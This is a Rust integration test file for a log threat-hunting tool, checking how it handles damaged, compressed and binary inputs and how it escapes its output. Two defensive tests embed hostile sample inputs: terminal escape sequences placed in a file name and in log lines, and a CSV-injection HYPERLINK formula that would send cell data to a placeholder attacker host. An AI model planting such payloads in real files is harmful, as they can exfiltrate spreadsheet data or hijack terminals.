//! Inputs are never silently skipped or shortened (issue 19): a text log
//! with NUL padding (crash, copytruncate) is read as text with the NULs
//! counted; a file skipped as binary says how to read it anyway; a damaged
//! EVTX chunk is an input error; a truncated compressed stream is an error
//! naming the file.

use std::path::{Path, PathBuf};
use std::process::Command;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// `hunt --feed FEED INPUT... --format jsonl`: (findings, coverage, exit
/// code, stderr).
fn hunt(
    feed: &Path,
    inputs: &[&Path],
    extra: &[&str],
) -> (Vec<serde_json::Value>, serde_json::Value, i32, String) {
    let dir = tempfile::tempdir().unwrap();
    let cov = dir.path().join("cov.json");
    let out = Command::new(env!("CARGO_BIN_EXE_orbwatch"))
        .args([
            "hunt",
            "--year",
            "2021",
            "--format",
            "jsonl",
            "--evidence-limit",
            "0",
        ])
        .arg("--feed")
        .arg(feed)
        .arg("--coverage")
        .arg(&cov)
        .args(extra)
        .args(inputs)
        .env_remove("ORBWATCH_DB")
        .output()
        .unwrap();
    let findings = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let cov = std::fs::read(&cov)
        .ok()
        .and_then(|b| serde_json::from_slice(&b).ok())
        .unwrap_or(serde_json::Value::Null);
    (
        findings,
        cov,
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Sightings per indicator, summed over its findings.
fn ioc_counts(findings: &[serde_json::Value]) -> Vec<(String, u64)> {
    let mut m = std::collections::BTreeMap::new();
    for f in findings.iter().filter(|f| f["kind"] == "ioc_match") {
        *m.entry(f["indicator"].as_str().unwrap().to_string())
            .or_insert(0) += f["count"].as_u64().unwrap();
    }
    m.into_iter().collect()
}

/// crowdsec's sshd sample (MIT, `examples/logs`), with 16 KiB of NULs
/// before it and a 100-byte NUL run in the middle of a line, as a
/// copytruncate rotation and a crash leave them: the same findings as the
/// clean file, and the NULs counted.
#[test]
fn nul_padding_in_a_text_log_is_skipped_and_counted() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n92.255.85.135\n").unwrap();
    let clean_path = repo().join("examples/logs/crowdsec_sshd-logs.log");
    let clean = std::fs::read(&clean_path).unwrap();
    let mut padded = vec![0u8; 16 * 1024];
    let cut = clean.len() / 2;
    let cut = cut + clean[cut..].iter().position(|b| *b == b' ').unwrap();
    padded.extend_from_slice(&clean[..cut]);
    padded.extend_from_slice(&[0u8; 100]);
    padded.extend_from_slice(&clean[cut..]);
    let padded_path = dir.path().join("padded.log");
    std::fs::write(&padded_path, &padded).unwrap();

    for mode in [&[][..], &["--no-behaviour"][..]] {
        let (want, _, code, err) = hunt(&feed, &[&clean_path], mode);
        assert_eq!(code, 0, "{err}");
        assert_eq!(
            ioc_counts(&want),
            vec![("35.188.49.176".into(), 3), ("92.255.85.135".into(), 3)]
        );
        let (got, cov, code, err) = hunt(&feed, &[&padded_path], mode);
        assert_eq!(code, 0, "{mode:?}: {err}");
        assert_eq!(ioc_counts(&got), ioc_counts(&want), "{mode:?}: {err}");
        let input = &cov["inputs"][0];
        assert_eq!(input["format"], "syslog", "{input}");
        assert_eq!(input["nul_bytes"], 16 * 1024 + 100, "{input}");
        assert_eq!(input["records"], 24, "{input}");
        assert!(err.contains("16484 NUL bytes skipped"), "{err}");
    }
}

/// Real binary data is still skipped, and the message says how to read it
/// as a log anyway.
#[test]
fn a_file_skipped_as_binary_suggests_input_format() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    let bin = dir.path().join("blob.bin");
    let mut x: u32 = 7;
    let bytes: Vec<u8> = (0..20_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x as u8
        })
        .collect();
    std::fs::write(&bin, bytes).unwrap();
    let (_, _, code, err) = hunt(&feed, &[&bin], &[]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--input-format"), "{err}");
}

/// A `.lz4` cut to 4–8 bytes read as an empty file with exit 0; now it is
/// an input error that names the file.
#[test]
fn a_truncated_lz4_is_an_error_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    // Magic number, FLG, BD: the frame header is cut before its checksum.
    let frame_start = [0x04u8, 0x22, 0x4d, 0x18, 0x64, 0x40, 0xa7, 0x00];
    for len in 4..=8 {
        let p = dir.path().join(format!("auth-{len}.log.lz4"));
        std::fs::write(&p, &frame_start[..len]).unwrap();
        let (_, cov, code, err) = hunt(&feed, &[&p], &[]);
        assert_eq!(code, 2, "{len} bytes: {err}");
        assert!(err.contains(&p.display().to_string()), "{err}");
        let e = cov["inputs"][0]["error"].as_str().unwrap_or_default();
        assert!(e.contains("lz4"), "{len} bytes: {e}");
    }
}

/// Concatenated LZ4 frames (`cat a.lz4 b.lz4`, made with the `lz4` tool
/// when it is installed) are all read: the second frame used to be dropped.
#[test]
fn concatenated_lz4_frames_are_all_read() {
    let dir = tempfile::tempdir().unwrap();
    let log = repo().join("examples/logs/crowdsec_sshd-logs.log");
    let one = dir.path().join("one.lz4");
    let ok = Command::new("lz4")
        .args(["-q", "-f"])
        .arg(&log)
        .arg(&one)
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        println!("skipped: the lz4 tool is not installed");
        return;
    }
    let frame = std::fs::read(&one).unwrap();
    let two = dir.path().join("two.log.lz4");
    std::fs::write(&two, [frame.clone(), frame].concat()).unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    let (findings, cov, code, err) = hunt(&feed, &[&two], &["--no-behaviour"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(cov["inputs"][0]["records"], 48);
    assert_eq!(ioc_counts(&findings), vec![("35.188.49.176".into(), 6)]);
}

/// A damaged EVTX chunk (8 KB overwritten in the CC0 Kerberos sample of
/// 54 records) ends in exit 2 with the lost records counted as rejected;
/// it used to be "2 rejected" and exit 0.
#[test]
fn a_damaged_evtx_chunk_is_an_input_error() {
    let dir = tempfile::tempdir().unwrap();
    let mut buf = std::fs::read(
        repo().join("tests/data/captures/e2m_ID4771-Kerberos_brutforce_with_valid_user.evtx"),
    )
    .unwrap();
    let mut x: u32 = 0x9e37_79b9;
    for b in &mut buf[4096 + 20_000..4096 + 28_000] {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        *b = x as u8;
    }
    let p = dir.path().join("damaged.evtx");
    std::fs::write(&p, buf).unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    let (_, cov, code, err) = hunt(&feed, &[&p], &[]);
    assert_eq!(code, 2, "{err}");
    let input = &cov["inputs"][0];
    assert_eq!(input["records"], 54, "{input}");
    assert_eq!(input["rejected"], 17, "{input}");
    assert!(err.contains("damaged EVTX"), "{err}");
}

/// Log text and file names cannot drive the terminal: ESC, BEL and NUL in
/// a file name and in log lines reach neither the table nor the coverage
/// summary as they are.
#[test]
fn control_characters_are_escaped_in_terminal_output() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    let log = dir.path().join("evil\u{1b}[2J\u{7}.log");
    std::fs::write(
        &log,
        "Feb 12 14:10:21 web1 sshd[16378]: Invalid user \u{1b}]0;pwned\u{7} from 35.188.49.176 port 53502\n\
         \u{1b}[31m\u{0}garbage that no decoder reads 35.188.49.176\n",
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_orbwatch"))
        .args(["hunt", "--year", "2021", "--format", "table", "--feed"])
        .arg(&feed)
        .arg(&log)
        .env_remove("ORBWATCH_DB")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let raw: Vec<u8> = text
            .iter()
            .copied()
            .filter(|b| *b < 0x20 && *b != b'\n' && *b != b'\t')
            .collect();
        assert!(
            raw.is_empty(),
            "{name} has raw control bytes {raw:?}: {}",
            String::from_utf8_lossy(text)
        );
    }
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("evil\\x1b[2J\\x07.log"), "{stderr}");
    // The rejected line's sample in the summary, escaped.
    assert!(stderr.contains("\\x1b[31mgarbage"), "{stderr}");
}

/// Rejected feed entries, printed by `feed add`, show their control
/// characters escaped.
#[test]
fn rejected_feed_entries_are_printed_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n1.2.3.\u{1b}[2J\u{7}999\n").unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_orbwatch"))
        .arg("--db")
        .arg(dir.path().join("s.db"))
        .args(["feed", "add", "--format", "plain"])
        .arg(&feed)
        .output()
        .unwrap();
    let all = [out.stdout.clone(), out.stderr.clone()].concat();
    let text = String::from_utf8_lossy(&all);
    assert!(!all.contains(&0x1b) && !all.contains(&0x07), "{text}");
    assert!(text.contains("rejected: 1"), "{text}");
    assert!(text.contains("\\x1b[2J\\x07"), "{text}");
}

/// CSV injection: log text that a spreadsheet would run as a formula is
/// neutralised (a leading `'`) in `hunt --format csv` and `report --csv`.
#[test]
fn csv_cells_never_start_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    let log = dir.path().join("web.log");
    let line = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\") 35.188.49.176";
    std::fs::write(&log, format!("{line}\n")).unwrap();
    let run = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_orbwatch"))
            .args(args)
            .env_remove("ORBWATCH_DB")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };
    let cell = |csv_bytes: &[u8]| -> String {
        let mut r = csv::Reader::from_reader(csv_bytes);
        let col = r
            .headers()
            .unwrap()
            .iter()
            .position(|h| h == "evidence_raw")
            .unwrap();
        let rec = r.records().next().unwrap().unwrap();
        rec[col].to_string()
    };
    let (feed_s, log_s) = (feed.to_str().unwrap(), log.to_str().unwrap());
    let hunt_csv = run(&["hunt", "--format", "csv", "--feed", feed_s, log_s]);
    assert_eq!(cell(&hunt_csv), format!("'{line}"));

    let jsonl = run(&["hunt", "--format", "jsonl", "--feed", feed_s, log_s]);
    let jsonl_path = dir.path().join("f.jsonl");
    std::fs::write(&jsonl_path, jsonl).unwrap();
    let report = dir.path().join("r.csv");
    run(&[
        "report",
        "--findings",
        jsonl_path.to_str().unwrap(),
        "--csv",
        report.to_str().unwrap(),
    ]);
    assert_eq!(cell(&std::fs::read(&report).unwrap()), format!("'{line}"));
}

/// `--threads 10000` is cut to a few threads per core, with a message; it
/// used to start them all (37 s on a 1.6 KB file).
#[test]
fn threads_are_capped_with_a_message() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    let log = repo().join("examples/logs/crowdsec_sshd-logs.log");
    let (findings, _, code, err) = hunt(&feed, &[&log], &["--threads", "10000"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("--threads 10000 is more than this machine can use"),
        "{err}"
    );
    assert_eq!(ioc_counts(&findings), vec![("35.188.49.176".into(), 3)]);
}

/// A FIFO found while walking a directory is not opened (reading it could
/// block for ever) but is named in the coverage; it used to vanish.
#[cfg(unix)]
#[test]
fn a_fifo_in_a_walked_directory_is_named_in_the_coverage() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    std::fs::copy(
        repo().join("examples/logs/crowdsec_sshd-logs.log"),
        logs.join("auth.log"),
    )
    .unwrap();
    let fifo = logs.join("console.fifo");
    let made = Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success());
    if !made {
        println!("skipped: mkfifo is not available");
        return;
    }
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, "35.188.49.176\n").unwrap();
    let (findings, cov, code, err) = hunt(&feed, &[&logs], &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(ioc_counts(&findings), vec![("35.188.49.176".into(), 3)]);
    let inputs = cov["inputs"].as_array().unwrap();
    assert_eq!(inputs.len(), 2, "{cov}");
    let f = inputs
        .iter()
        .find(|i| i["file"] == fifo.display().to_string())
        .unwrap_or_else(|| panic!("FIFO not in the coverage: {cov}"));
    assert!(
        f["notes"][0]
            .as_str()
            .unwrap()
            .contains("a FIFO (named pipe)"),
        "{f}"
    );
    assert!(err.contains("console.fifo"), "{err}");
}
